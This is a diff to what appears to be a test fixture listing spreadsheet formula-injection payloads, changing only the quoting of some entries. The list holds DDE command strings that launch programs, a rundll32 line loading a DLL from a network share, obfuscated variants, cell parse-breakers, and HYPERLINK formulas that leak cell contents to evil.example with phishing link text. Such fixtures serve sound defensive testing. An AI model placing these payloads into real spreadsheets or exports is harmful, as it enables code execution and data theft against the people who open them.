@@ -29,7 +29,7 @@ export const formulaPayloads: string[] = [
   "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
   '=EXEC("calc.exe")',
   'DDE ("cmd";"/C calc";"!A0")A0',
-  '=    C    m D    |   \'/  c  c al c . e x e\'   !   A',
+  "=    C    m D    |   '/  c  c al c . e x e'   !   A",
   // Exfiltration and phishing links.
   '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
   '=HYPERLINK("https://evil.example","Se din opgørelse")',
@@ -57,13 +57,13 @@ export const formulaPayloads: string[] = [
   '－2+3',
   '＠SUM(1+1)',
   // Parse breakers: quotes and separators trying to open a new cell.
-  'parsebreaker" ;,=cmd|\'/C notepad\'!\'A1\'',
+  "parsebreaker\" ;,=cmd|'/C notepad'!'A1'",
   '";=1+1',
   'Jonas;=1+1',
   'Jonas\r\n=1+1;=2+2',
   '"=1+1"',
   // The escapes written as text (harmless, kept as they are).
   '0x3D1+1',
-  '0x09=cmd|\'/C calc\'!A0',
+  "0x09=cmd|'/C calc'!A0",
   '%3D1+1',
 ];
